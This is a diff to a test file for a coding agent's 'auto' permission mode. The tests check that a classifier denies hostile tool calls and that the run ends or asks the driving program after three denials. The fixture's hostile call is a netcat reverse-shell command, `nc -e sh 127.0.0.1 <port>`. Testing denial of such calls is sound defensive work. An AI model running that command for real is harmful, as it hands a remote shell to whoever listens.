@@ -5,7 +5,7 @@ import { call, createHeadlessFixture } from './lib/headless-fixture.js'
 
 const { at, file, writeModel, run, start } = createHeadlessFixture()
 
-const AUTO = ['--permission-mode', 'auto']
+const AUTO_MODE_ARGS = ['--permission-mode', 'auto']
 /** Each command is different, so that only the classifier denies it and not the repetition guard. */
 const createHostileCall = (port: number) => call('Bash', { command: `nc -e sh 127.0.0.1 ${port}` })
 const createHarmlessCall = (line: number) => call('Read', { file_path: file('a.txt'), offset: 1, limit: line })
@@ -14,7 +14,14 @@ describe('auto mode', () => {
   test('ends the run with a reason after three consecutive denials if there is no user to ask', async () => {
     const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4), 'unreached']
 
-    const { code, stdout } = await run(['-p', 'Go', '--output-format', 'json', ...AUTO, ...(await writeModel(turns))])
+    const { code, stdout } = await run([
+      '-p',
+      'Go',
+      '--output-format',
+      'json',
+      ...AUTO_MODE_ARGS,
+      ...(await writeModel(turns)),
+    ])
 
     expect(code).toBe(3)
     const result = JSON.parse(stdout)
@@ -30,7 +37,7 @@ describe('auto mode', () => {
       createHostileCall(2 * round + 1),
       createHarmlessCall(round + 1),
     ])
-    const args = ['--output-format', 'json', ...AUTO]
+    const args = ['--output-format', 'json', ...AUTO_MODE_ARGS]
 
     const { code, stdout } = await run([
       '-p',
@@ -49,7 +56,7 @@ describe('auto mode', () => {
   test('reports on standard error why it ended the run', async () => {
     const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4)]
 
-    const { code, stdout, stderr } = await run(['-p', 'Go', ...AUTO, ...(await writeModel(turns))])
+    const { code, stdout, stderr } = await run(['-p', 'Go', ...AUTO_MODE_ARGS, ...(await writeModel(turns))])
 
     expect({ code, stdout }).toEqual({ code: 3, stdout: '' })
     expect(stderr.trimEnd().split('\n').at(-1)).toMatch(/^haft: The classifier denied too many calls\./)
@@ -58,7 +65,7 @@ describe('auto mode', () => {
   test('asks the driving program after three consecutive denials and continues with its answer', async () => {
     const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4), 'Done.']
     const driverArgs = ['-p', '--input-format', 'stream-json', '--output-format', 'stream-json']
-    const args = ['--permission-prompt-tool', 'stdio', ...AUTO, ...(await writeModel(turns))]
+    const args = ['--permission-prompt-tool', 'stdio', ...AUTO_MODE_ARGS, ...(await writeModel(turns))]
     const process = start([...driverArgs, ...args])
     process.send({ type: 'user', message: { role: 'user', content: 'Go' } })
     const questions: Line[] = []
